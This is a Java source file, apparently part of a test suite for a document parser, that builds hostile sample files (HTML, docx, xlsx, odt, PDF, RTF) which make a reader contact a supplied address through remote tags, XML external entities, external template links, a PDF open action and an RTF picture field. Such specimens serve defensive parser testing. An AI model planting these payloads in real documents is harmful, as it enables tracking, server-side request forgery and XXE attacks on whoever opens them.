package org.gouji.hostile;

import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.TreeMap;
import org.gouji.read.sample.Container;
import org.gouji.read.sample.Workbook;

/** Files that would have whoever reads them call an address. */
final class Callers {
  private Callers() {}

  /** The files, by name. */
  static Map<String, byte[]> to(String address) {
    Map<String, byte[]> files = new TreeMap<>();
    files.put("calls-page.html", page(address));
    files.put("calls-type.html", bytes("<!DOCTYPE html SYSTEM \"" + address + "\">" + page()));
    files.put("calls-picture.docx", draft("image", address));
    files.put("calls-template.docx", draft("attachedTemplate", address));
    files.put("calls-link.xlsx", workbook(address));
    for (String format : new String[] {"docx", "xlsx", "odt"}) {
      String entity = "<!DOCTYPE w [<!ENTITY % p SYSTEM \"" + address + "\"> %p;";
      String type = entity + "<!ENTITY x SYSTEM \"" + address + "\">]><w>&x;</w>";
      files.put("calls-entity." + format, ZipAttacks.packed(format, bytes(type), Map.of()));
      String schema = "<w xmlns:s='http://www.w3.org/2001/XMLSchema-instance' s:schemaLocation='w ";
      String located = schema + address + "'/>";
      files.put("calls-schema." + format, ZipAttacks.packed(format, bytes(located), Map.of()));
    }
    files.put(
        "calls-action.pdf",
        PdfAttacks.pdf(
            "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(" + address + ")>>>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
            "<</Length 0/F<</FS/URL/F(" + address + ")>>>>stream\n\nendstream"));
    files.put(
        "calls-picture.rtf",
        bytes("{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE " + address + "}}}"));
    return files;
  }

  private static String page() {
    return Specimen.sound().page();
  }

  private static byte[] page(String address) {
    String head =
        "<base href='%s'><link rel=stylesheet href='%s'><style>@import '%s'</style>"
            + "<script src='%s'></script><meta http-equiv=refresh content='0;url=%s'>";
    String body =
        "<img src='%s'><iframe src='%s'></iframe><object data='%s'></object><embed src='%s'>"
            + "<svg><image href='%s'/></svg><table background='%s'><tr><td>一</td></tr></table>";
    String page = page().replace("</head>", head + "</head>").replace("</body>", body + "</body>");
    return bytes(page.replace("%s", address));
  }

  private static byte[] draft(String type, String address) {
    return Container.of(
        Map.of(
            "word/document.xml", XmlAttacks.document(Specimen.sound().draft()),
            "word/_rels/document.xml.rels", outside(type, address),
            "word/_rels/settings.xml.rels", outside(type, address)));
  }

  private static byte[] workbook(String address) {
    return ZipAttacks.packed(
        "xlsx",
        bytes("<worksheet/>"),
        Map.of(
            "xl/_rels/workbook.xml.rels",
            outside("externalLink", address),
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            outside("externalLinkPath", address)));
  }

  private static byte[] outside(String type, String address) {
    return Workbook.relationship(type, address, " TargetMode='External'");
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
